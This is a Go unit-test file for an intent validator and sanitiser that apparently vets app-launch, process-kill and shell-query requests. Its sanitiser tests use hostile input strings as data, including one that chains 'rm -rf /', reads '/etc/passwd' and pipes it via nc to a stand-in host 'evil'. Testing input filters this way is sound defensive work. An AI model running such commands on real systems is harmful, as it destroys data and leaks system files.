package intent

import (
	"errors"
	"strings"
	"testing"
)

func TestValidateBasicStartApp(t *testing.T) {
	in, err := Validate(Candidate{Action: "start_app", Target: "firefox", Reason: "open browser"})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if in.Action != StartApp {
		t.Errorf("expected start_app, got %s", in.Action)
	}
	if in.Target != "firefox" {
		t.Errorf("expected firefox, got %q", in.Target)
	}
	if in.Reason != "open browser" {
		t.Errorf("reason not carried: %q", in.Reason)
	}
}

func TestValidateActionCaseInsensitive(t *testing.T) {
	for _, raw := range []string{"START_APP", "Start_App", " start_app "} {
		in, err := Validate(Candidate{Action: raw, Target: "gedit"})
		if err != nil {
			t.Fatalf("action %q: unexpected error: %v", raw, err)
		}
		if in.Action != StartApp {
			t.Errorf("action %q: expected start_app, got %s", raw, in.Action)
		}
	}
}

func TestValidateUnknownAction(t *testing.T) {
	_, err := Validate(Candidate{Action: "format_disk", Target: "sda"})
	var se *SchemaError
	if !errors.As(err, &se) {
		t.Fatalf("expected SchemaError, got %v", err)
	}
	if se.Code != ErrUnknownAction {
		t.Errorf("expected unknown_action, got %s", se.Code)
	}
}

func TestValidateEmptyTarget(t *testing.T) {
	for _, a := range Actions {
		for _, target := range []string{"", "   ", ";&|", "`$()`"} {
			_, err := Validate(Candidate{Action: string(a), Target: target})
			var se *SchemaError
			if !errors.As(err, &se) {
				t.Fatalf("action %s target %q: expected SchemaError, got %v", a, target, err)
			}
			if se.Code != ErrEmptyTarget {
				t.Errorf("action %s target %q: expected empty_target, got %s", a, target, se.Code)
			}
		}
	}
}

func TestValidateTargetTooLong(t *testing.T) {
	_, err := Validate(Candidate{Action: "shell_query", Target: strings.Repeat("a", 257)})
	var se *SchemaError
	if !errors.As(err, &se) {
		t.Fatalf("expected SchemaError, got %v", err)
	}
	if se.Code != ErrTargetTooLong {
		t.Errorf("expected target_too_long, got %s", se.Code)
	}
}

func TestValidateTargetLengthCountsRunes(t *testing.T) {
	// 200 multibyte runes is 600 bytes but well under the 256-rune cap.
	in, err := Validate(Candidate{Action: "start_app", Target: strings.Repeat("ж", 200)})
	if err != nil {
		t.Fatalf("expected 200-rune target accepted, got %v", err)
	}
	if in.Target != strings.Repeat("ж", 200) {
		t.Errorf("target mangled: %q", in.Target)
	}

	_, err = Validate(Candidate{Action: "start_app", Target: strings.Repeat("ж", 257)})
	var se *SchemaError
	if !errors.As(err, &se) || se.Code != ErrTargetTooLong {
		t.Fatalf("expected target_too_long for 257 runes, got %v", err)
	}
}

func TestSanitizeStripsMetacharacters(t *testing.T) {
	got := Sanitize(`rm -rf / ; echo $(whoami) && cat /etc/passwd | nc "evil"`)
	for _, forbidden := range []string{";", "&", "`", "$", "(", ")", "<", ">", `"`, "'", "\\", "!", "{", "}", "[", "]"} {
		if strings.Contains(got, forbidden) {
			t.Errorf("sanitized output still contains %q: %q", forbidden, got)
		}
	}
	// The pipe survives sanitization; ShellQuery segmentation needs it.
	if !strings.Contains(got, "|") {
		t.Errorf("pipe should survive sanitization, got %q", got)
	}
}

func TestSanitizeIdempotent(t *testing.T) {
	inputs := []string{
		"firefox",
		"ps aux | grep python",
		`echo "hi" && rm -rf /`,
		"  spaced  ",
		"unicode-αβγ",
	}
	for _, in := range inputs {
		once := Sanitize(in)
		twice := Sanitize(once)
		if once != twice {
			t.Errorf("not idempotent for %q: once=%q twice=%q", in, once, twice)
		}
	}
}

func TestValidateSignalParameter(t *testing.T) {
	in, err := Validate(Candidate{
		Action:     "kill_process",
		Target:     "firefox",
		Parameters: map[string]any{"signal": "SIGKILL"},
	})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if in.Parameters["signal"] != "KILL" {
		t.Errorf("expected normalized KILL, got %q", in.Parameters["signal"])
	}

	_, err = Validate(Candidate{
		Action:     "kill_process",
		Target:     "firefox",
		Parameters: map[string]any{"signal": "EVIL"},
	})
	var se *SchemaError
	if !errors.As(err, &se) || se.Code != ErrBadParameter {
		t.Errorf("expected bad_parameter for unsupported signal, got %v", err)
	}
}

func TestValidateNonScalarParameter(t *testing.T) {
	_, err := Validate(Candidate{
		Action:     "list_processes",
		Target:     "all",
		Parameters: map[string]any{"filter": []any{"cpu"}},
	})
	var se *SchemaError
	if !errors.As(err, &se) || se.Code != ErrBadParameter {
		t.Errorf("expected bad_parameter for list value, got %v", err)
	}
}

func TestWireRoundTrip(t *testing.T) {
	in, err := Validate(Candidate{
		Action:     "Shell_Query",
		Target:     "ps aux | grep python",
		Parameters: map[string]any{"filter": "cpu"},
		Reason:     "find python processes",
	})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}

	wire := in.Wire()
	if wire.Action != "shell_query" {
		t.Errorf("round-trip action: got %q", wire.Action)
	}
	if wire.Target != "ps aux | grep python" {
		t.Errorf("round-trip target: got %q", wire.Target)
	}

	again, err := Validate(wire)
	if err != nil {
		t.Fatalf("re-validation failed: %v", err)
	}
	if again.Action != in.Action || again.Target != in.Target {
		t.Errorf("re-validation changed intent: %+v vs %+v", again, in)
	}
}

func TestParamFallback(t *testing.T) {
	in := &Intent{Action: KillProcess, Target: "x"}
	if got := in.Param("signal", "TERM"); got != "TERM" {
		t.Errorf("expected fallback TERM, got %q", got)
	}
	in.Parameters = map[string]string{"signal": "KILL"}
	if got := in.Param("signal", "TERM"); got != "KILL" {
		t.Errorf("expected KILL, got %q", got)
	}
}
